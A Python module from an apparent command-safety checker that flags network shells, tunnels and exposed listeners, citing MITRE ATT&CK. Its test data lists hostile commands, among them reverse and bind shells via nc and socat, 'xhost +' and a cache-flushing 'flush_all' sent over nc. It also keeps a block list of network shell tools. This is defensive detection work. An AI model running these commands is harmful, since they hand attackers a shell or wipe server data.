"""Listening shells, tunnels and switched-off checks let others in.

Source: MITRE ATT&CK T1059, T1090, T1572.
"""

import re

from llmsh.core.command import SimpleCommand
from llmsh.core.late_pattern import late_pattern
from llmsh.core.risk import Finding, Reason
from llmsh.risk.found import caution, danger
from llmsh.syntax.names import names

PROGRAMS = names(
    """
    nc ncat netcat socat ngrok ssh cloudflared telnet chisel frpc msfvenom msfconsole xhost vncserver x11vnc autossh
    bore lt localtunnel sshd telnetd ttyd gotty sshuttle responder tinyproxy microsocks setenforce x0vncserver wetty
    shellinaboxd pwncat dropbear smbd rpcbind inetd xinetd wssh tmate
    """
)
MATCHES = (
    "nc -e /bin/sh 10.0.0.1 4444",
    "nc -lvp 4444 -e /bin/bash",
    "socat TCP-LISTEN:4444 EXEC:/bin/sh",
    "xhost +",
    "ngrok http 8080",
    "ssh -R 80:localhost:80 h",
    "nc -lvnp 4444",
    "ttyd bash",
    "ssh -o StrictHostKeyChecking=no host",
    "sshd -D",
    "tmate",
    "ncat --exec /bin/bash -l 99",
    "echo flush_all | nc h 11211",
)
IGNORES = (
    "nc -zv host 22",
    "ssh host",
    "telnet host 80",
    "xhost",
    "ssh -L 8080:localhost:80 h",
    "sshd -t",
    "ngrok version",
    "ssh -V",
    "socat -h",
)
_EMPTIES = late_pattern(r"(?im)^\s*(?:flush_?all|flushdb|shutdown|kill|config set|delete /\S)\b|\bDELETE /\S+ HTTP")
_EXECUTES = late_pattern(r"-[a-zA-Z]*[ec]\Z|--(?:sh-)?exec|--lua-exec")


def assess(command: SimpleCommand) -> Finding | None:
    program, shapes = command.program or "", command.shapes
    if command.has_flag("help", "version") or shapes[:1] in (("version",), ("help",), ("-h",), ("-V",)):
        return None
    if program in ("nc", "ncat", "netcat", "pwncat"):
        listens = any(re.match(r"-[a-zA-Z]*l|--listen", shape) for shape in shapes)
        if any(_EXECUTES.match(shape) for shape in shapes) and "-z" not in shapes:
            return danger(Reason.NETWORK_EXEC, "gives a shell to whoever is at the other end")
        return caution(Reason.NETWORK_LOCKOUT, "listens for anyone who connects") if listens else None
    if program == "socat":
        text = " ".join(shapes).lower()
        if re.search(r"\b(exec|system|shell|pty)\b", text):
            return danger(Reason.NETWORK_EXEC, "gives a shell to whoever connects")
        return caution(Reason.NETWORK_LOCKOUT, "forwards connections") if "listen" in text else None
    if program == "xhost":
        return (
            danger(Reason.PERMISSIONS, "lets anyone use this display")
            if any(shape.startswith("+") for shape in shapes)
            else None
        )
    if program in ("ssh", "autossh"):
        settings = " ".join(shapes).lower().replace(" ", "")
        if any(re.match(r"-[a-zA-Z]*R", shape) for shape in command.shapes[: _host_at(command)]):
            return caution(Reason.NETWORK_LOCKOUT, "opens a way in from the other machine")
        unchecked = "stricthostkeychecking=no" in settings or "userknownhostsfile=/dev/null" in settings
        return caution(Reason.PERMISSIONS, "does not check whom it talks to") if unchecked else None
    if program == "sshd" and command.has_flag("t", "T"):
        return None
    if program in ("telnet", "responder") and program == "telnet":
        return None
    if program in ("ttyd", "gotty", "wetty", "shellinaboxd", "tmate", "telnetd", "msfvenom", "msfconsole", "responder"):
        return danger(Reason.NETWORK_EXEC, "lets others run commands here")
    return (
        caution(Reason.NETWORK_LOCKOUT, "opens a way in from outside")
        if shapes or program in ("sshd", "vncserver")
        else None
    )


def assess_input(command: SimpleCommand, text: str) -> Finding | None:
    """What is said to a cache or a database server over a bare connection."""
    if command.program in ("nc", "ncat", "netcat", "telnet", "socat") and _EMPTIES.search(text):
        return danger(Reason.DATABASE_DROP, "empties or stops a server")
    return None


def _host_at(command: SimpleCommand) -> int:
    options = command.options("BbcDEeFIiJLlmOopQRSWw", permute=False)
    return len(command.arguments) - len(options.operands)
